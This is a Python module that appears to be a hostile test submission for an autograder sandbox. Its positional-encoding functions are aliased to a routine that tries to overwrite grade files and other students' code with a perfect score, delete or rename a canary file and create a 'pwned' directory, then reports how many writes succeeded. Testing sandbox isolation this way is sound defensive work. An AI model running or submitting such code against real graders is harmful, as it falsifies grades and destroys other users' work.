import os

from hostile_targets import CANARY, CLASS, CONTROLS, ME, OUT

_TARGETS = [
    os.path.join(OUT, "grades.csv"), os.path.join(OUT, f"{ME}.json"), os.path.join(OUT, f"{CONTROLS[0]}.json"),
    os.path.join(OUT, ".attnkit", f"{ME}.json"), os.path.join(OUT, "pwned.txt"),
    os.path.join(CLASS, CONTROLS[0], "positional.py"), os.path.join(CLASS, CONTROLS[1], "softmax.py"),
    os.path.join(CANARY, "canary.txt"), os.path.join(CANARY, "pwned.txt"),
]


def _vandal(*args, **kwargs):
    wrote, errors = 0, []
    for path in _TARGETS:
        try:
            with open(path, "w") as handle:
                handle.write('{"score": 100}\n')
            wrote += 1
        except OSError as error:
            errors.append(type(error).__name__)
    for action in (lambda: os.remove(os.path.join(CANARY, "canary.txt")),
                   lambda: os.rename(os.path.join(CANARY, "canary.txt"), os.path.join(CANARY, "moved.txt")),
                   lambda: os.mkdir(os.path.join(OUT, "pwned"))):
        try:
            action()
            wrote += 1
        except OSError as error:
            errors.append(type(error).__name__)
    raise RuntimeError(f"wrote {wrote} of {len(_TARGETS)} files ({', '.join(sorted(set(errors)))})")


sinusoidal_encoding = apply_rope = _vandal
